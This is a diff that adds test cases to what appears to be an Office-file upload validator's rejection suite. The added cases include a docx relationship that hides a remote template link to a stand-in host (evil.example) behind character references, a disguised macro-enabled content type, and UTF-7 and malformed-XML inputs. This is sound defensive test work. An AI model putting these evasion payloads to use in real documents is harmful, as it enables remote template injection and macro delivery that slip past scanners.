@@ -120,6 +120,35 @@ describe("what is refused", () => {
       "file-active",
     ],
     [
+      "a template fetched from elsewhere, spelled with character references behind what looks like an end",
+      () =>
+        office("docx", [
+          {
+            name: "word/_rels/settings.xml.rels",
+            content:
+              '<Relationships><r:Relationship xmlns:r="x" Id="a>b" Type="http://x/relationships/attached&#x54;emplate" Target="http://evil.example/t.dotm" TargetMode="&#69;xternal"/></Relationships>',
+          },
+        ]),
+      "file-active",
+    ],
+    [
+      "macros spelled with character references",
+      () => office("xlsx", [], '<Default ContentType="application/vnd.ms-excel.sheet.macro&#69;nabled.main+xml"/>'),
+      "file-active",
+    ],
+    [
+      "relations that are no XML",
+      () =>
+        office("docx", [{ name: "word/_rels/x.xml.rels", content: "<Relationships><Relationship</Relationships>" }]),
+      "file-unreadable",
+    ],
+    [
+      "an encoding that readers understand differently",
+      () =>
+        office("docx", [{ name: "_rels/x.rels", content: '<?xml version="1.0" encoding="UTF-7"?><Relationships/>' }]),
+      "file-unreadable",
+    ],
+    [
       "entities",
       () => office("docx", [{ name: "word/x.xml", content: '<!DOCTYPE x [<!ENTITY a "b">]><x/>' }]),
       "file-active",
